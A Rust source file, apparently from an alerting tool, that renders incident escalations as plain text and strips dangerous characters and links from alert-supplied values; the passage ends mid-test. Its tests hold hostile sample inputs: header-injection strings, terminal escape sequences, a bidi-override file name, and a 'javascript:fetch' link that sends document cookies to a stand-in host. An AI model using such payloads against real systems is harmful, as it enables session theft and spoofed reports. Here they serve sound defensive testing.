//! What an escalation says: the `Escalation` record (stored as JSON in the outbox, sent
//! later, maybe after a restart), its plain-text rendering for a human at 3 a.m., and the
//! Alertmanager silence link. Pure: values in, text out. It never lets alert text shape
//! the layout: every alert-supplied value is escaped or fenced behind a gutter.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use chrono::{DateTime, Utc};
use percent_encoding::{AsciiSet, NON_ALPHANUMERIC, utf8_percent_encode};
use serde::{Deserialize, Serialize};

use crate::incident::event::CheckResult;
pub use crate::incident::event::StepOutcome;
pub use crate::incident::{EscalationReason, redact_url_credentials};
use crate::plan::PlannedTarget;

/// One earlier run of the same recipe on the same target, inside the breaker window.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RunSummary {
    pub incident_id: i64,
    pub started_at: DateTime<Utc>,
    /// The incident's final (or current) state, e.g. `succeeded`.
    pub state: String,
}

/// The circuit breaker's view of this recipe for this breaker key.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BreakerWindow {
    /// What the runs are counted by, with the recipe (`[breaker] key`, or the target's
    /// name). Empty in escalations queued before breaker keys.
    #[serde(default)]
    pub key: String,
    pub max_runs: u32,
    /// The window as humantime text, e.g. `1h`.
    pub window: String,
    /// Runs inside the window, oldest first.
    pub runs: Vec<RunSummary>,
}

/// One remediation command and what became of it. Output is already bounded by the
/// executor (`ssh.max_output_bytes`); the flags say whether it was cut.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StepReport {
    /// 1-based position in the recipe.
    pub step: u32,
    pub command: String,
    /// The journal's word: `ok`, `failed`, `timeout` or `error`.
    pub outcome: StepOutcome,
    pub exit_status: Option<i32>,
    pub stdout: String,
    pub stderr: String,
    pub stdout_truncated: bool,
    pub stderr_truncated: bool,
    pub duration_ms: Option<u64>,
    /// Why there is no exit status (connection refused, timeout, …).
    pub error: Option<String>,
}

/// The last result of one verification check.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CheckReport {
    /// The command or URL.
    pub check: String,
    pub passed: bool,
    pub detail: String,
}

impl From<&CheckResult> for CheckReport {
    fn from(result: &CheckResult) -> CheckReport {
        CheckReport {
            check: result.check.clone(),
            passed: result.passed,
            detail: result.detail.clone(),
        }
    }
}

/// One of the recipe's `attach` commands, run at escalation time for the human (e.g. the
/// `du` report of the disk-space recipe).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Diagnostic {
    pub command: String,
    pub exit_status: Option<i32>,
    /// stdout, then stderr if any, bounded.
    pub output: String,
    pub truncated: bool,
    /// Why it could not run.
    pub error: Option<String>,
}

/// Everything a human needs to act on one incident, as sent to every channel. Stored as
/// JSON in the outbox: fields are only ever added (with `#[serde(default)]`), never renamed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Escalation {
    pub incident_id: i64,
    pub reason: EscalationReason,
    /// The incident's state when escalated, e.g. `verify_failed`.
    pub state: String,
    /// One line for subjects and titles.
    pub summary: String,
    /// The incident's reason text (the planner's or the remediator's words).
    pub why: String,
    pub alertname: Option<String>,
    #[serde(default)]
    pub labels: BTreeMap<String, String>,
    #[serde(default)]
    pub annotations: BTreeMap<String, String>,
    /// The `severity` label, if any.
    pub severity: Option<String>,
    pub recipe: Option<String>,
    pub target: Option<PlannedTarget>,
    pub breaker: Option<BreakerWindow>,
    #[serde(default)]
    pub steps: Vec<StepReport>,
    #[serde(default)]
    pub checks: Vec<CheckReport>,
    #[serde(default)]
    pub diagnostics: Vec<Diagnostic>,
    pub generator_url: Option<String>,
    pub silence_url: Option<String>,
    pub created_at: DateTime<Utc>,
    /// Why the recipe's `attach` diagnostics were not run for this escalation (collected
    /// recently for the same recipe and target, the host busy or held, …).
    #[serde(default)]
    pub diagnostics_omitted: Option<String>,
    /// The recipe's `description` (operator text).
    #[serde(default)]
    pub recipe_description: Option<String>,
    /// The recipe's `runbook`: what the human should do (operator text).
    #[serde(default)]
    pub runbook: Option<String>,
    /// For an `approval` page: the signed links to approve or deny the plan (each opens a
    /// confirm page; only its button acts), valid until `approval_expires_at`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub approve_url: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub deny_url: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub approval_expires_at: Option<DateTime<Utc>>,
}

impl Escalation {
    /// The summary as one clean line (no control characters), whatever it was built from.
    pub fn summary_line(&self) -> String {
        one_line(&self.summary)
    }

    /// This escalation as a human may be shown it, whatever the alert carried: one-line
    /// fields with every control, bidi and zero-width character escaped, multi-line fields
    /// keeping only their line breaks and tabs, links only `http(s)://` and without a
    /// `user:password@` part. Every channel sends this, never the stored record as is
    /// (rows queued by an older salve included).
    pub fn for_humans(&self) -> Escalation {
        let mut e = self.clone();
        let line = |text: &mut String| *text = one_line(text);
        let opt_line = |text: &mut Option<String>| {
            if let Some(text) = text {
                *text = one_line(text);
            }
        };
        line(&mut e.summary);
        line(&mut e.state);
        e.why = block_text(&e.why);
        opt_line(&mut e.alertname);
        opt_line(&mut e.severity);
        opt_line(&mut e.recipe);
        e.labels = e
            .labels
            .iter()
            .map(|(name, value)| (one_line(name), one_line(value)))
            .collect();
        e.annotations = e
            .annotations
            .iter()
            .map(|(name, value)| (one_line(name), block_text(value)))
            .collect();
        if let Some(target) = &mut e.target {
            line(&mut target.name);
            line(&mut target.address);
            opt_line(&mut target.user);
        }
        for step in &mut e.steps {
            line(&mut step.command);
            step.stdout = block_text(&step.stdout);
            step.stderr = block_text(&step.stderr);
            opt_line(&mut step.error);
        }
        for check in &mut e.checks {
            line(&mut check.check);
            check.detail = block_text(&check.detail);
        }
        for diagnostic in &mut e.diagnostics {
            line(&mut diagnostic.command);
            diagnostic.output = block_text(&diagnostic.output);
            opt_line(&mut diagnostic.error);
        }
        opt_line(&mut e.diagnostics_omitted);
        e.recipe_description = e.recipe_description.as_deref().map(block_text);
        e.runbook = e.runbook.as_deref().map(block_text);
        if let Some(breaker) = &mut e.breaker {
            line(&mut breaker.window);
            line(&mut breaker.key);
        }
        e.generator_url = e.generator_url.as_deref().and_then(safe_link);
        e.silence_url = e.silence_url.as_deref().and_then(safe_link);
        e.approve_url = e.approve_url.as_deref().and_then(safe_link);
        e.deny_url = e.deny_url.as_deref().and_then(safe_link);
        e
    }
}

/// `url` as a link a human may follow: only `http://` or `https://` with a host (a
/// `javascript:`, `data:` or `file:` link from an alert is dropped), and without its
/// `user:password@` part, which is a credential. `None` when it is not such a link.
pub fn safe_link(url: &str) -> Option<String> {
    let mut parsed = reqwest::Url::parse(url.trim()).ok()?;
    if !matches!(parsed.scheme(), "http" | "https") || parsed.host_str().is_none() {
        return None;
    }
    // Both only fail for URLs that cannot have a user (not http/https).
    let _ = parsed.set_username("");
    let _ = parsed.set_password(None);
    Some(parsed.to_string())
}

/// Multi-line text for a machine-read body (webhook JSON): line breaks and tabs kept,
/// every other control, bidi or zero-width character (CR, ESC, …) escaped.
pub fn block_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c == '\n' || c == '\t' {
            out.push(c);
        } else if c.is_control() || is_invisible_or_bidi(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    out
}

/// Characters `encodeURIComponent` leaves alone; the Alertmanager UI encodes its links
/// with it (Elm's `Url.percentEncode`), so the link matches the one the UI builds.
const URI_COMPONENT: &AsciiSet = &NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'_')
    .remove(b'.')
    .remove(b'!')
    .remove(b'~')
    .remove(b'*')
    .remove(b'\'')
    .remove(b'(')
    .remove(b')');

/// A link to Alertmanager's "new silence" form, pre-filled with one equality matcher per
/// label, as the UI's own "Silence" button builds it (Alertmanager 0.25,
/// `ui/app/src/Views/SilenceForm/Parsing.elm`): `{a="x", b="y"}` with values as JSON
/// strings, percent-encoded, after `#/silences/new?filter=`.
pub fn silence_url(external_url: &str, labels: &BTreeMap<String, String>) -> String {
    let matchers: Vec<String> = labels
        .iter()
        .map(|(name, value)| {
            let quoted = serde_json::to_string(value).expect("a string always serialises");
            format!("{name}={quoted}")
        })
        .collect();
    // The UI writes no braces for an empty matcher list.
    let filter = if matchers.is_empty() {
        String::new()
    } else {
        format!("{{{}}}", matchers.join(", "))
    };
    format!(
        "{}/#/silences/new?filter={}",
        external_url.trim_end_matches('/'),
        utf8_percent_encode(&filter, URI_COMPONENT)
    )
}

/// Characters that reorder or hide text on screen (bidi overrides, zero-width): shown
/// escaped so a label cannot make a report read differently from what it says.
fn is_invisible_or_bidi(c: char) -> bool {
    matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
}

/// `text` on one line: every control, bidi or zero-width character written as an escape
/// (`\n`, `\u{1b}`), so a value can neither start a new line nor hide what follows.
pub fn one_line(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_control() || is_invisible_or_bidi(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    out
}

/// Multi-line text (command output, annotations) behind a `| ` gutter: each line of it is
/// visibly part of the block, so it cannot pass for a heading or a link of the report.
/// Tabs are kept; other control characters are escaped.
fn push_block(out: &mut String, indent: &str, text: &str) {
    let text = text.strip_suffix('\n').unwrap_or(text);
    for line in text.split('\n') {
        let line = line.strip_suffix('\r').unwrap_or(line);
        out.push_str(indent);
        out.push_str("| ");
        for c in line.chars() {
            if c == '\t' {
                out.push(c);
            } else if c.is_control() || is_invisible_or_bidi(c) {
                push_escaped(out, c);
            } else {
                out.push(c);
            }
        }
        out.push('\n');
    }
}

fn format_duration_ms(ms: u64) -> String {
    if ms < 1000 {
        format!("{ms} ms")
    } else {
        format!("{:.1} s", ms as f64 / 1000.0)
    }
}

fn exit_text(exit_status: Option<i32>) -> String {
    match exit_status {
        Some(code) => format!("exit {code}"),
        None => "no exit status".to_owned(),
    }
}

/// A time as the reports show it: UTC to the second.
fn report_time(at: DateTime<Utc>) -> impl std::fmt::Display {
    at.format("%Y-%m-%d %H:%M:%S UTC")
}

/// The plain-text report: what happened and why first, then where and with which recipe,
/// the breaker window, each step with its output, each check, the diagnostics, the alert's
/// labels and annotations, and the links. Every alert-supplied value is either on one
/// escaped line or fenced behind a gutter.
pub fn render_text(escalation: &Escalation) -> String {
    let e = escalation;
    let mut out = String::new();
    let _ = writeln!(out, "{}", e.summary_line());
    let _ = writeln!(
        out,
        "salve escalated incident #{} ({}): {}.",
        e.incident_id,
        e.reason.as_str(),
        e.reason.headline()
    );
    let _ = writeln!(
        out,
        "State: {}. Escalated at {}.",
        one_line(&e.state),
        report_time(e.created_at)
    );

    out.push_str("\nWHY\n");
    if e.why.trim().is_empty() {
        out.push_str("  (no reason recorded)\n");
    } else {
        push_block(&mut out, "  ", &e.why);
    }

    out.push_str("\nWHAT\n");
    let alert = e.alertname.as_deref().map(one_line);
    let _ = writeln!(
        out,
        "  Alert:    {}{}",
        alert.as_deref().unwrap_or("(no alertname)"),
        e.severity
            .as_deref()
            .map(|s| format!(" (severity {})", one_line(s)))
            .unwrap_or_default()
    );
    match &e.target {
        Some(target) => {
            let _ = writeln!(
                out,
                "  Target:   {} ({}:{}{})",
                one_line(&target.name),
                one_line(&target.address),
                target.port,
                target
                    .user
                    .as_deref()
                    .map(|u| format!(", user {}", one_line(u)))
                    .unwrap_or_default()
            );
        }
        None => out.push_str("  Target:   (none)\n"),
    }
    let _ = writeln!(
        out,
        "  Recipe:   {}",
        e.recipe
            .as_deref()
            .map(one_line)
            .as_deref()
            .unwrap_or("(none)")
    );

    if let Some(description) = &e.recipe_description {
        out.push_str("  About:\n");
        push_block(&mut out, "    ", description);
    }
    if let Some(runbook) = &e.runbook {
        out.push_str("\nRUNBOOK\n");
        push_block(&mut out, "  ", runbook);
    }

    if let (Some(approve), Some(deny)) = (&e.approve_url, &e.deny_url) {
        out.push_str("\nAPPROVAL\n");
        if let Some(until) = e.approval_expires_at {
            let _ = writeln!(
                out,
                "  The plan waits for a decision until {}.",
                report_time(until)
            );
        }
        let _ = writeln!(out, "  Approve: {approve}");
        let _ = writeln!(out, "  Deny:    {deny}");
    }

    if let Some(breaker) = &e.breaker {
        let key = if breaker.key.is_empty() {
            String::new()
        } else {
            format!(", key {}", one_line(&breaker.key))
        };
        let _ = writeln!(
            out,
            "\nRUNS IN THE BREAKER WINDOW ({} of at most {} in {}{key})",
            breaker.runs.len(),
            breaker.max_runs,
            one_line(&breaker.window)
        );
        if breaker.runs.is_empty() {
            out.push_str("  (none)\n");
        }
        for run in &breaker.runs {
            let _ = writeln!(
                out,
                "  #{:<6} {}  {}",
                run.incident_id,
                report_time(run.started_at),
                one_line(&run.state)
            );
        }
    }

    if !e.steps.is_empty() {
        out.push_str("\nSTEPS\n");
        for step in &e.steps {
            let _ = writeln!(out, "  {}. $ {}", step.step, one_line(&step.command));
            let mut facts = vec![
                exit_text(step.exit_status),
                step.outcome.as_str().to_owned(),
            ];
            if let Some(ms) = step.duration_ms {
                facts.push(format_duration_ms(ms));
            }
            let _ = writeln!(out, "     {}", facts.join(" · "));
            if let Some(error) = &step.error {
                let _ = writeln!(out, "     error: {}", one_line(error));
            }
            for (name, text, truncated) in [
                ("stdout", &step.stdout, step.stdout_truncated),
                ("stderr", &step.stderr, step.stderr_truncated),
            ] {
                if text.is_empty() && !truncated {
                    continue;
                }
                let mark = if truncated {
                    " (truncated: only the beginning is shown)"
                } else {
                    ""
                };
                let _ = writeln!(out, "     {name}{mark}:");
                push_block(&mut out, "       ", text);
            }
        }
    }

    if !e.checks.is_empty() {
        out.push_str("\nCHECKS (last result of each)\n");
        for check in &e.checks {
            let _ = writeln!(
                out,
                "  [{}] {}",
                if check.passed { "PASS" } else { "FAIL" },
                one_line(&check.check)
            );
            if !check.detail.is_empty() {
                push_block(&mut out, "         ", &check.detail);
            }
        }
    }

    if let Some(omitted) = &e.diagnostics_omitted {
        let _ = writeln!(out, "\nDIAGNOSTICS\n  (omitted: {})", one_line(omitted));
    }
    if !e.diagnostics.is_empty() {
        out.push_str("\nDIAGNOSTICS\n");
        for diagnostic in &e.diagnostics {
            let _ = writeln!(out, "  $ {}", one_line(&diagnostic.command));
            let mut facts = vec![exit_text(diagnostic.exit_status)];
            if diagnostic.truncated {
                facts.push("output truncated: only the beginning is shown".to_owned());
            }
            let _ = writeln!(out, "    {}", facts.join(" · "));
            if let Some(error) = &diagnostic.error {
                let _ = writeln!(out, "    error: {}", one_line(error));
            }
            if !diagnostic.output.is_empty() {
                push_block(&mut out, "    ", &diagnostic.output);
            }
        }
    }

    out.push_str("\nLABELS\n");
    if e.labels.is_empty() {
        out.push_str("  (none)\n");
    }
    for (name, value) in &e.labels {
        let _ = writeln!(out, "  {} = {}", one_line(name), one_line(value));
    }
    if !e.annotations.is_empty() {
        out.push_str("\nANNOTATIONS\n");
        for (name, value) in &e.annotations {
            let _ = writeln!(out, "  {}:", one_line(name));
            push_block(&mut out, "    ", value);
        }
    }

    let generator_url = e.generator_url.as_deref().and_then(safe_link);
    let silence_url = e.silence_url.as_deref().and_then(safe_link);
    if generator_url.is_some() || silence_url.is_some() {
        out.push_str("\nLINKS\n");
        if let Some(url) = &generator_url {
            let _ = writeln!(out, "  Alert source: {}", one_line(url));
        }
        if let Some(url) = &silence_url {
            let _ = writeln!(out, "  Silence:      {}", one_line(url));
        }
    }
    out
}

/// Incidents listed one per line in a digest's text; the rest are counted.
pub const DIGEST_LISTED: usize = 50;
/// Alertnames and hosts shown with their counts in a digest's text; the rest are summed.
const DIGEST_TOP: usize = 20;

/// One incident of a digest.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DigestEntry {
    pub incident_id: i64,
    pub summary: String,
    pub alertname: Option<String>,
    /// The inventory host, if the plan had one.
    pub target: Option<String>,
    pub state: String,
}

/// Many escalations for the same reason to the same channel within a short window, sent
/// as one message (`[escalation] digest_after`/`digest_window`): the flood is one page,
/// not a thousand. Every incident is in `incidents`; the text lists the first
/// `DIGEST_LISTED` and counts them all by alertname and host.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Digest {
    /// The digest's number, journaled on each of its incidents ("escalated in digest #D").
    pub digest_id: i64,
    pub reason: EscalationReason,
    pub count: usize,
    pub incidents: Vec<DigestEntry>,
    /// Incidents per alertname (`(no alertname)` when missing).
    pub by_alertname: BTreeMap<String, usize>,
    /// Incidents per target host (`(no target)` when none).
    pub by_host: BTreeMap<String, usize>,
    pub created_at: DateTime<Utc>,
}

impl Digest {
    /// The digest of `escalations` (all for `reason`), each shown as `for_humans` does.
    pub fn new(
        digest_id: i64,
        reason: EscalationReason,
        escalations: &[Escalation],
        created_at: DateTime<Utc>,
    ) -> Digest {
        let mut by_alertname = BTreeMap::new();
        let mut by_host = BTreeMap::new();
        let incidents: Vec<DigestEntry> = escalations
            .iter()
            .map(|escalation| {
                let e = escalation.for_humans();
                let target = e.target.as_ref().map(|t| t.name.clone());
                *by_alertname
                    .entry(
                        e.alertname
                            .clone()
                            .unwrap_or_else(|| "(no alertname)".into()),
                    )
                    .or_insert(0usize) += 1;
                *by_host
                    .entry(target.clone().unwrap_or_else(|| "(no target)".into()))
                    .or_insert(0usize) += 1;
                DigestEntry {
                    incident_id: e.incident_id,
                    summary: super::template::truncate_chars(&e.summary, 250),
                    alertname: e.alertname,
                    target,
                    state: e.state,
                }
            })
            .collect();
        Digest {
            digest_id,
            reason,
            count: incidents.len(),
            incidents,
            by_alertname,
            by_host,
            created_at,
        }
    }

    /// One line for subjects and titles.
    pub fn summary_line(&self) -> String {
        let top = top_counts(&self.by_alertname, 3)
            .into_iter()
            .map(|(name, n)| format!("{name} ×{n}"))
            .collect::<Vec<_>>()
            .join(", ");
        one_line(&format!(
            "digest #{}: {} incident(s) escalated ({}): {top}",
            self.digest_id,
            self.count,
            self.reason.as_str()
        ))
    }
}

/// The `n` largest counts, largest first (ties by name).
fn top_counts(counts: &BTreeMap<String, usize>, n: usize) -> Vec<(&str, usize)> {
    let mut sorted: Vec<(&str, usize)> = counts.iter().map(|(k, v)| (k.as_str(), *v)).collect();
    sorted.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
    sorted.truncate(n);
    sorted
}

fn push_counts(out: &mut String, title: &str, counts: &BTreeMap<String, usize>) {
    let _ = writeln!(out, "\n{title}");
    let top = top_counts(counts, DIGEST_TOP);
    for (name, n) in &top {
        let _ = writeln!(out, "  {n:>6}  {}", one_line(name));
    }
    if counts.len() > top.len() {
        let rest: usize =
            counts.values().sum::<usize>() - top.iter().map(|(_, n)| n).sum::<usize>();
        let _ = writeln!(out, "  {rest:>6}  (in {} more)", counts.len() - top.len());
    }
}

/// The plain-text digest: how many and why, counts by alertname and host, then the first
/// `DIGEST_LISTED` incidents one per line. Every alert-supplied value is on one escaped line.
pub fn render_digest_text(digest: &Digest) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{}", digest.summary_line());
    let _ = writeln!(
        out,
        "salve escalated {} incident(s) for the same reason ({}: {}) within a short time; \
         they are sent as this one digest instead of one message each.",
        digest.count,
        digest.reason.as_str(),
        digest.reason.headline()
    );
    let _ = writeln!(
        out,
        "Digest #{} at {}. Each incident's full report: `salve history` or /api/v1/incidents/ID.",
        digest.digest_id,
        report_time(digest.created_at)
    );
    push_counts(&mut out, "BY ALERTNAME", &digest.by_alertname);
    push_counts(&mut out, "BY HOST", &digest.by_host);
    out.push_str("\nINCIDENTS\n");
    for entry in digest.incidents.iter().take(DIGEST_LISTED) {
        let _ = writeln!(
            out,
            "  #{:<6} {}",
            entry.incident_id,
            one_line(&entry.summary)
        );
    }
    if digest.incidents.len() > DIGEST_LISTED {
        let _ = writeln!(
            out,
            "  … and {} more (counted above; each is in `salve history`)",
            digest.incidents.len() - DIGEST_LISTED
        );
    }
    out
}

/// A realistic escalation for template checks at startup and for tests.
pub fn sample() -> Escalation {
    let labels: BTreeMap<String, String> = [
        ("alertname", "ServiceDown"),
        ("instance", "web1:9100"),
        ("service", "nginx"),
        ("severity", "critical"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .collect();
    Escalation {
        incident_id: 42,
        reason: EscalationReason::VerifyFailed,
        state: "verify_failed".into(),
        summary: "ServiceDown on web1: verification failed after service-restart".into(),
        why: "check `curl -fsS http://127.0.0.1/health` still failing after 60s".into(),
        alertname: Some("ServiceDown".into()),
        severity: Some("critical".into()),
        silence_url: Some(silence_url("http://alertmanager:9093", &labels)),
        labels,
        annotations: [("summary".to_owned(), "nginx is down on web1".to_owned())]
            .into_iter()
            .collect(),
        recipe: Some("service-restart".into()),
        target: Some(PlannedTarget {
            name: "web1".into(),
            address: "10.0.0.11".into(),
            port: 22,
            user: Some("salve".into()),
        }),
        breaker: Some(BreakerWindow {
            key: "web1/nginx".into(),
            max_runs: 3,
            window: "1h".into(),
            runs: Vec::new(),
        }),
        steps: vec![StepReport {
            step: 1,
            command: "systemctl restart 'nginx'".into(),
            outcome: StepOutcome::Ok,
            exit_status: Some(0),
            stdout: String::new(),
            stderr: String::new(),
            stdout_truncated: false,
            stderr_truncated: false,
            duration_ms: Some(850),
            error: None,
        }],
        checks: vec![CheckReport {
            check: "curl -fsS http://127.0.0.1/health".into(),
            passed: false,
            detail: "exit 7".into(),
        }],
        diagnostics: Vec::new(),
        diagnostics_omitted: None,
        recipe_description: None,
        runbook: None,
        approve_url: None,
        deny_url: None,
        approval_expires_at: None,
        generator_url: Some("http://prometheus:9090/graph?g0.expr=up%3D%3D0".into()),
        created_at: DateTime::parse_from_rfc3339("2026-11-28T03:00:00Z")
            .expect("valid timestamp")
            .with_timezone(&Utc),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hostile() -> Escalation {
        let mut e = sample();
        e.summary = "Disk full\r\nBcc: victim@example.com".into();
        e.labels.insert(
            "multi".into(),
            "line1\nSubject: forged\r\n\nLINKS\n  Silence: http://evil.test".into(),
        );
        e.labels
            .insert("ansi".into(), "\u{1b}[2J\u{1b}[31mred".into());
        e.labels.insert("bidi".into(), "\u{202e}gnp.exe".into());
        e.annotations.insert(
            "description".into(),
            "first line\nLINKS\n  Silence: http://evil.test\n".into(),
        );
        e.steps[0].stdout = "ok\n\u{1b}]0;title\u{7}\nDIAGNOSTICS\n".into();
        e.steps[0].stdout_truncated = true;
        e
    }

    #[test]
    fn report_leads_with_what_and_why_then_details_in_order() {
        let mut e = sample();
        e.diagnostics.push(Diagnostic {
            command: "du -xh /var | sort -rh | head".into(),
            exit_status: Some(0),
            output: "9.1G\t/var/log\n2.0G\t/var/cache\n".into(),
            truncated: false,
            error: None,
        });
        e.breaker.as_mut().unwrap().runs.push(RunSummary {
            incident_id: 40,
            started_at: e.created_at,
            state: "succeeded".into(),
        });
        let text = render_text(&e);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], e.summary);
        assert!(lines[1].contains("incident #42 (verify_failed)"), "{text}");
        let order = [
            "\nWHY\n",
            "\nWHAT\n",
            "Target:   web1 (10.0.0.11:22, user salve)",
            "\nRUNS IN THE BREAKER WINDOW (1 of at most 3 in 1h, key web1/nginx)\n",
            "  #40 ",
            "\nSTEPS\n",
            "1. $ systemctl restart 'nginx'",
            "exit 0 · ok · 850 ms",
            "\nCHECKS (last result of each)\n",
            "[FAIL] curl -fsS http://127.0.0.1/health",
            "\nDIAGNOSTICS\n",
            "  $ du -xh /var | sort -rh | head",
            "    | 9.1G\t/var/log\n",
            "\nLABELS\n",
            "  severity = critical",
            "\nANNOTATIONS\n",
            "\nLINKS\n",
            "  Silence:      http://alertmanager:9093/#/silences/new?filter=",
        ];
        let mut from = 0;
        for needle in order {
            let found = text[from..]
                .find(needle)
                .unwrap_or_else(|| panic!("{needle:?} not found after byte {from} in:\n{text}"));
            from += found + needle.len();
        }
    }

    #[test]
    fn an_approval_page_shows_its_links_and_only_http_ones() {
        let mut e = sample();
        e.reason = EscalationReason::Approval;
        e.approve_url = Some("https://salve.example/approve/1.approve.9.ab.cd.ef".into());
        e.deny_url = Some("https://salve.example/deny/1.deny.9.ab.cd.ef".into());
        let text = render_text(&e.for_humans());
        assert!(
            text.contains("\nAPPROVAL\n")
                && text.contains("  Approve: https://salve.example/approve/1.approve.9.ab.cd.ef\n")
                && text.contains("  Deny:    https://salve.example/deny/1.deny.9.ab.cd.ef\n"),
            "{text}"
        );
        e.approve_url = Some("javascript:alert(1)".into());
        assert_eq!(e.for_humans().approve_url, None);
        assert!(!render_text(&sample()).contains("APPROVAL"));
    }

    #[test]
    fn a_known_failure_shows_the_recipe_description_and_runbook() {
        let mut e = sample();
        e.reason = EscalationReason::Known;
        e.recipe_description = Some("Disk fills up\nLINKS".into());
        e.runbook = Some("1. Read the du report.\n2. Page the owner.\u{1b}[2J".into());
        let text = render_text(&e);
        assert!(
            text.contains("(known): a known failure that its recipe leaves to a human"),
            "{text}"
        );
        let about = text
            .find("  About:\n    | Disk fills up\n    | LINKS\n")
            .expect(&text);
        let runbook = text
            .find("\nRUNBOOK\n  | 1. Read the du report.\n  | 2. Page the owner.\\u{1b}[2J\n")
            .expect(&text);
        assert!(
            about < runbook && runbook < text.find("\nLABELS\n").unwrap(),
            "{text}"
        );
        assert_eq!(text.matches("\nLINKS\n").count(), 1, "{text}");
        let shown = e.for_humans();
        assert_eq!(
            shown.runbook.as_deref(),
            Some("1. Read the du report.\n2. Page the owner.\\u{1b}[2J")
        );
    }

    #[test]
    fn hostile_values_cannot_add_lines_headings_or_terminal_escapes() {
        let text = render_text(&hostile());
        // Every line that is not ours is fenced: no line starts with a forged heading.
        for line in text.lines() {
            assert!(!line.starts_with("Subject:"), "{line:?}\n{text}");
            assert!(!line.starts_with("Bcc:"), "{line:?}\n{text}");
            assert!(
                !line.starts_with("  Silence: http://evil"),
                "{line:?}\n{text}"
            );
        }
        assert_eq!(text.matches("\nLINKS\n").count(), 1, "{text}");
        assert_eq!(text.matches("\nDIAGNOSTICS\n").count(), 0, "{text}");
        assert!(!text.contains('\u{1b}'), "{text}");
        assert!(!text.contains('\u{202e}'), "{text}");
        assert!(!text.contains('\r'), "{text}");
        assert!(text.starts_with("Disk full\\r\\nBcc: victim@example.com\n"));
        assert!(
            text.contains(
                "  multi = line1\\nSubject: forged\\r\\n\\nLINKS\\n  Silence: http://evil.test\n"
            ),
            "{text}"
        );
        assert!(
            text.contains("  ansi = \\u{1b}[2J\\u{1b}[31mred\n"),
            "{text}"
        );
        assert!(text.contains("  bidi = \\u{202e}gnp.exe\n"), "{text}");
        assert!(text.contains("    | LINKS\n"), "{text}");
        assert!(
            text.contains("stdout (truncated: only the beginning is shown):\n       | ok\n"),
            "{text}"
        );
    }

    #[test]
    fn links_are_only_http_and_never_carry_credentials() {
        for (url, expected) in [
            (
                "http://prometheus:9090/graph?g0.expr=up",
                Some("http://prometheus:9090/graph?g0.expr=up"),
            ),
            (
                "https://u:hunter2@grafana.test/d/1",
                Some("https://grafana.test/d/1"),
            ),
            (
                "https://only-user@grafana.test/",
                Some("https://grafana.test/"),
            ),
            ("javascript:alert(document.cookie)", None),
            ("JaVaScRiPt:alert(1)", None),
            (" javascript:alert(1)", None),
            ("data:text/html;base64,PHNjcmlwdD4=", None),
            ("file:///etc/passwd", None),
            ("vbscript:msgbox", None),
            ("/relative/path", None),
            ("http://", None),
        ] {
            assert_eq!(safe_link(url).as_deref(), expected, "{url}");
        }
        assert_eq!(
            redact_url_credentials("http://admin:hunter2@am.test:9093/x"),
            "http://redacted@am.test:9093/x"
        );
        assert_eq!(redact_url_credentials("http://am.test/"), "http://am.test/");
        assert_eq!(redact_url_credentials("not a url"), "not a url");
    }

    #[test]
    fn what_channels_send_has_escaped_text_and_safe_links() {
        let mut e = hostile();
        e.generator_url = Some("javascript:fetch('//evil.test/'+document.cookie)".into());
        e.silence_url = Some("http://admin:hunter2@am.test/#/silences/new".into());
        e.alertname = Some("Disk\u{1b}]8;;http://evil.test\u{7}full\r\nX: y".into());
        e.annotations
            .insert("runbook".into(), "line 1\r\nline 2\u{1b}[31m".into());
        let shown = e.for_humans();
        assert_eq!(shown.generator_url, None);
        assert_eq!(
            shown.silence_url.as_deref(),
            Some("http://am.test/#/silences/new")
        );
        assert_eq!(
            shown.alertname.as_deref(),
            Some("Disk\\u{1b}]8;;http://evil.test\\u{7}full\\r\\nX: y")
        );
        assert_eq!(shown.annotations["runbook"], "line 1\\r\nline 2\\u{1b}[31m");
        let json = serde_json::to_string(&shown).unwrap();
        for forbidden in ["\\u001b", "\\u0007", "hunter2", "javascript:"] {
            assert!(!json.contains(forbidden), "{forbidden} in {json}");
        }
        // What a consumer decodes holds no control character but line breaks and tabs.
        fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
            match value {
                serde_json::Value::String(s) => out.push(s.clone()),
                serde_json::Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
                serde_json::Value::Object(fields) => fields.iter().for_each(|(k, v)| {
                    out.push(k.clone());
                    strings(v, out)
                }),
                _ => {}
            }
        }
        let mut all = Vec::new();
        strings(&serde_json::to_value(&shown).unwrap(), &mut all);
        for text in all {
            assert!(
                !text
                    .chars()
                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
                "{text:?}"
            );
        }
        // Escaping twice changes nothing: what was escaped stays readable.
